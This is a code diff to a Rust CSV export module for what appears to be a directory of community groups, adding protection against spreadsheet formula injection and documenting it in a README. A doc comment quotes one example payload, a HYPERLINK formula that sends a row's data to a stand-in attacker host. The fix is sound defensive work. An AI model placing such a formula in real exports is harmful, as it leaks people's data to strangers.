@@ -3,6 +3,12 @@
 //! The JSON carries the licence and attribution with the records, so a copy taken out of
 //! context still says where it came from; the CSV is one row per group for spreadsheets,
 //! with lists joined by `;` (no area code, help key or language code contains one).
+//!
+//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula, so a group
+//! named `=HYPERLINK("https://evil.example/?"&A1, "click")` would send a row to a stranger
+//! when a volunteer opens the CSV. Every cell that starts with one of those (or a tab or
+//! carriage return, which some programs skip before looking) gets a `'` in front, as
+//! OWASP's CSV-injection advice says: shown as text, never run. See [`spreadsheet_safe`].
 
 use std::io::Write;
 
@@ -78,7 +84,7 @@ pub fn csv(config: &Config, groups: &[Group], out: &mut dyn Write) -> anyhow::Re
     let opt = |v: &Option<String>| v.clone().unwrap_or_default();
     for g in groups {
         let r = GroupRecord::new(g, config);
-        w.write_record([
+        let cells = [
             r.slug.clone(),
             r.name.clone(),
             r.summary.clone(),
@@ -97,10 +103,27 @@ pub fn csv(config: &Config, groups: &[Group], out: &mut dyn Write) -> anyhow::Re
             opt(&r.facebook),
             opt(&r.hours),
             r.description_html.clone(),
-        ])?;
+        ];
+        w.write_record(cells.map(spreadsheet_safe))?;
     }
     w.flush()?;
     Ok(())
+}
+
+/// A CSV cell that a spreadsheet shows as text: `'` put before one that starts with a
+/// formula character (`=`, `+`, `-`, `@`, tab or carriage return).
+///
+/// Every cell, with no exceptions to keep track of: `phone_tel` (`+441632960001`) too,
+/// which a spreadsheet would otherwise turn into the number 441632960001, losing the `+`
+/// and, in Excel, showing it as 4.41633E+11. With the quote it reads as typed. The
+/// `phone` column is as the group wrote it, usually national form (`01632 960001`), and
+/// `groups.json` has every value unchanged for programs.
+pub fn spreadsheet_safe(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
 }
 
 /// `README.txt`: what each file is, its licence, and how to credit it.
@@ -135,6 +158,12 @@ added           YYYY-MM-DD, when the group was first listed; empty for groups li
 areas           postcode districts (NR2) and sectors (NR3 1) the group covers
 phone_tel       the phone number in +44 form, for dialling
 description_html  sanitised HTML
+
+In groups.csv, a cell that starts with =, +, -, @, a tab or a carriage return has a '
+put in front of it, so that a spreadsheet shows it as text instead of running it as a
+formula (a group's name is written by whoever sends it in). phone_tel, where a group
+has a phone, is always one of them: '+441632960001. Programs reading the CSV should remove a ' before one of those
+characters; groups.json has every value exactly as it is.
 
 The changes feed
 ----------------
